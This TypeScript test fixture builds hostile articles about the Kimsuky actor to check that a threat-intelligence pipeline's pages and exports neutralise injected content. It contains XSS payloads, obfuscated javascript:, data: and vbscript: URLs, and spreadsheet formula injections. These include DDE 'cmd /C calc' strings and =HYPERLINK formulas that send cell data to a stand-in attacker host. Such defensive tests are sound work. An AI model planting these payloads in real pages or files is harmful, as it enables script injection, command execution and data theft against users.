/**
 * Articles written to attack whoever displays them: markup and event handlers in the title, publisher and quoted
 * sentences, spreadsheet formulas at the start of cells, and source URLs with `javascript:`, `data:` and disguised
 * schemes. Stored through the same code the index stage uses, so the API serves them exactly as it would serve a
 * hostile page the pipeline had ingested. Shared by the security integration test and the browser test.
 */
import type { Client } from '@elastic/elasticsearch';
import type { Article } from '../../src/article/types.ts';
import { type ExtractionCatalog, extractArticle } from '../../src/extract/index.ts';
import { articleIdFor } from '../../src/store/documents.ts';
import type { IndexNames } from '../../src/store/indices.ts';
import { storeExtraction } from '../../src/store/ingest-store.ts';

/** Every hostile article is about this actor (unambiguous in the catalog). */
export const HOSTILE_ACTOR = 'kimsuky';

export const HOSTILE_TITLE =
  '=HYPERLINK("http://evil.example.test/?q="&A1,"open") <script>alert("title")</script><img src=x onerror=alert(1)>"><svg onload=alert(2)> Kimsuky';
export const HOSTILE_PUBLISHER = "@SUM(1+1)*cmd|' /C calc'!A0 \"><img src=x onerror=alert(3)>";

/** Sentences that each yield claims about Kimsuky, opening with a formula or markup. */
export const HOSTILE_SENTENCES = [
  '=HYPERLINK("http://evil.example.test/?leak="&A1,"Kimsuky") Mandiant said Kimsuky targeted think tanks in South Korea.',
  "+cmd|' /C calc'!A0 Mandiant said Kimsuky targeted universities in Japan.",
  "-2+3+cmd|' /C calc'!A0 Researchers at Mandiant said Kimsuky targeted government agencies in the United States.",
  "@SUM(1+1)*cmd|' /C calc'!A0 Mandiant said Kimsuky targeted defense contractors in Germany.",
  '<script>alert(5)</script> Mandiant said Kimsuky targeted media companies in France.',
  '"><img src=x onerror=alert(6)> Mandiant said Kimsuky targeted pharmaceutical companies in Italy.',
  '<svg/onload=alert(7)> Mandiant said Kimsuky targeted energy companies in Spain.',
];

/** Source URLs no page may turn into a link; each article below carries one. */
export const HOSTILE_URLS = [
  'javascript:alert(4)',
  'JaVaScRiPt:alert(8)',
  ' javascript:alert(9)',
  'java\tscript:alert(10)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=',
  'vbscript:msgbox(12)',
];

/** Markup every page and export must show as text, never as markup. */
export const HOSTILE_MARKERS = ['<script>', '<img src=x', '<svg', 'onerror=', 'onload='];

function hostile(i: number, url: string, text: string): { normalizedUrl: string; article: Article } {
  return {
    normalizedUrl: `https://evil.example.test/kimsuky/${i}`,
    article: {
      url,
      title: i === 0 ? HOSTILE_TITLE : `"><iframe src=javascript:alert(${20 + i})></iframe> Kimsuky report ${i}`,
      publisher: HOSTILE_PUBLISHER,
      // The last one has no date: paging must get past undated claims too.
      published: i === HOSTILE_URLS.length - 1 ? null : `2024-0${(i % 9) + 1}-1${i % 10}`,
      text,
      authors: [],
      modified: null,
      language: 'en',
      paragraphs: [],
    },
  };
}

/** The hostile corpus: the first article carries every sentence; the others one each, with another URL scheme. */
export function hostileArticles(): { normalizedUrl: string; article: Article }[] {
  return HOSTILE_URLS.map((url, i) =>
    hostile(
      i,
      url,
      i === 0
        ? HOSTILE_SENTENCES.join('\n\n')
        : `<b onmouseover=alert(${30 + i})>Report ${i}:</b> Mandiant said Kimsuky targeted shipping companies in Norway in wave ${i}.`,
    ),
  );
}

/** Stores the hostile corpus and returns the article ids, the first (every payload) first. */
export async function storeHostileArticles(
  client: Client,
  names: IndexNames,
  catalog: ExtractionCatalog,
): Promise<string[]> {
  const ids: string[] = [];
  for (const { normalizedUrl, article } of hostileArticles()) {
    const result = extractArticle(article, { source: article.url ?? normalizedUrl });
    if (result.claims.length === 0) throw new Error(`hostile article ${normalizedUrl} yields no claims`);
    await storeExtraction(
      client,
      names,
      result,
      { normalizedUrl, parsedAt: '2024-01-01T00:00:00Z', ingestedAt: new Date().toISOString() },
      catalog.actors,
    );
    ids.push(articleIdFor(normalizedUrl));
  }
  return ids;
}
